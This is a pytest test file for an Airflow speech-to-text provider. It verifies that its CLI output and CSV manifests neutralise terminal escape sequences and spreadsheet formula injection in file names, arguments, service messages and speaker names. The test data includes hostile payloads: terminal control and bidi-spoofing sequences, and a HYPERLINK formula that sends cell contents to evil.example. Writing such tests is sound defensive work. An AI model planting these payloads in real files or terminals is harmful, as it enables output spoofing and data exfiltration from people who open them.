"""Names that others give reach a terminal or a spreadsheet as text, and do nothing there."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from airflow_provider_nanostt.cli import main
from airflow_provider_nanostt.emulator import Emulator
from airflow_provider_nanostt.emulator.__main__ import main as emulator_main
from airflow_provider_nanostt.operators import TranscribeBatchOperator
from airflow_provider_nanostt.workflow.batch import manifest
from airflow_provider_nanostt.workflow.batch.manifest_row import ManifestRow

CONTROLS = {
    "a title": "\x1b]0;owned\x07",
    "a colour": "\x1b[31m",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a link": "\x1b]8;;evil.example\x1b\\",
    "C1": "\x9b31m",
    "a backspace": "x\x08\x08\x08",
    "a carriage return": "\rTotal: $0",
    "a line break": "\nTotal: $0",
    "a separator": "\u2028Total",
    "a reversed order": "\u202egpj.",
    "isolated": "\u2067abc\u2069",
}
COMMANDS = {
    "a broken file": lambda name: ["estimate", name],
    "a file that is not there": lambda name: ["estimate", f"{name}-none"],
    "a model": lambda name: ["estimate", "--model", name, "note.wav"],
    "a connection": lambda name: ["doctor", "--conn", name],
    "the connection of an estimate": lambda name: ["estimate", "--conn", name, "note.wav"],
    "an option": lambda name: ["estimate", "note.wav", f"--{name}"],
    "a recording": lambda name: ["transcribe", name, "--output", f"{name}-none"],
    "a format": lambda name: ["transcribe", "note.wav", "--output", "out", "--formats", name],
    "a way": lambda name: ["estimate", "note.wav", "--oversize", name],
    "a command": lambda name: [name],
}


def is_dangerous(text: str) -> bool:
    """Whether a text has a character that does something in a terminal, beside the end of a line."""
    return any(
        unicodedata.category(one) in ("Cc", "Zl", "Zp") or unicodedata.bidirectional(one) in ("RLO", "RLI", "PDI")
        for one in text
        if one != "\n"
    )


@pytest.mark.parametrize("control", CONTROLS.values(), ids=CONTROLS)
@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS)
@pytest.mark.parametrize("as_json", [False, True], ids=["table", "JSON"])
def test_no_command_writes_a_control_to_the_terminal(
    emulator: Emulator,
    command: Any,
    control: str,
    as_json: bool,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
):
    """Whatever the name of a file says, or one that a shell has made an argument of."""
    monkeypatch.chdir(tmp_path)
    name = f"a{control}b"
    (tmp_path / name).write_text("<html>no sound</html>")
    arguments = [*command(name), *(["--json"] if as_json else [])]
    with suppress(SystemExit):
        main(arguments)
    shown = capsys.readouterr()
    assert not is_dangerous(shown.out + shown.err)
    assert not any(line.startswith("Total: $0") and "b" in line for line in shown.out.splitlines())


def test_the_service_writes_nothing_to_the_terminal(
    emulator: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
):
    """Its words are in what the doctor says."""
    from airflow_provider_nanostt.emulator import Fault

    for endpoint in ("/check-balance", "/v1/audio-models"):
        emulator.fail(endpoint, Fault(status=401, message="\x1b[2Jowned\x07", times=9))
    main(["doctor"])
    shown = capsys.readouterr()
    assert "owned" in shown.out
    assert not is_dangerous(shown.out + shown.err)


def test_the_emulator_writes_none_either(capsys: pytest.CaptureFixture[str]):
    """In what it says of a host that cannot be."""
    assert emulator_main(["--host", "\x1b[2J"]) == 2
    assert not is_dangerous(capsys.readouterr().err)


STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def rows(text: str) -> list[ManifestRow]:
    """One recording, of which every text begins alike."""
    return [
        ManifestRow(
            number=0,
            audio=text,
            name=text,
            run_id=text,
            model=text,
            language=text,
            speakers=[text, "Agent"],
            error=text,
            error_type=text,
            cost_usd=-0.5,
            files={"json": text},
        )
    ]


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_is_a_formula(start: str, tmp_path: Path):
    """An apostrophe is in front; numbers are numbers."""
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    (found,) = csv.DictReader(io.StringIO(written(tmp_path, "csv", text), newline=""))
    assert not [cell for name, cell in found.items() if cell.startswith(start) and name != "cost_usd"]
    assert found["name"] == f"'{text}"
    assert found["speakers"] == f"'{text}; Agent"
    assert found["cost_usd"] == "-0.5"


@pytest.mark.parametrize("start", STARTS)
def test_json_lines_have_the_text_as_it_is(start: str, tmp_path: Path):
    """No spreadsheet reads them."""
    found = json.loads(written(tmp_path, "jsonl", f"{start}x"))
    assert (found["name"], found["speakers"]) == (f"{start}x", [f"{start}x", "Agent"])


def test_a_semicolon_makes_no_cell(tmp_path: Path):
    """Some spreadsheets split at semicolons, unless a text is quoted."""
    assert '"a;=1+1; Agent"' in written(tmp_path, "csv", "a;=1+1")


@pytest.mark.parametrize("text", ["call-1.wav", "/calls/a=b.wav", "Agent + customer", "", "'quoted'", "1-2"])
def test_an_ordinary_text_has_no_apostrophe(text: str, tmp_path: Path):
    """Only the beginning of a cell matters."""
    (found,) = csv.DictReader(io.StringIO(written(tmp_path, "csv", text), newline=""))
    assert found["name"] == text


def written(folder: Path, form: str, text: str) -> str:
    """Return a manifest as a text."""
    from airflow_provider_nanostt.common import object_storage

    manifest.write(object_storage.resolve(str(folder)), "m", rows(text), (form,))
    return (folder / f"m.{form}").read_bytes().decode()


def test_the_names_of_speakers_come_from_the_service(emulator: Emulator, wav: Path, tmp_path: Path):
    """So does what is in the manifest of a batch that has run."""
    speaker = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    segments = [{"text": "hello", "start": 0, "end": 1, "speaker": speaker}]
    emulator.script("note.wav", text="hello", words=[], segments=segments, duration=30.0)
    made = TranscribeBatchOperator(
        task_id="t",
        audio=[str(wav)],
        model="Elevenlabs-STT",
        diarize=True,
        output_path=str(tmp_path / "out"),
        manifest_formats=("csv", "jsonl"),
        deferrable=False,
        poll_interval=0.05,
    )
    made.execute({"ti": SimpleNamespace(dag_id="d", task_id="t", run_id="r", map_index=-1, max_tries=0)})
    with (tmp_path / "out" / "manifest.csv").open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["speakers"] == f"'{speaker}"
    assert json.loads((tmp_path / "out" / "manifest.jsonl").read_text())["speakers"] == [speaker]
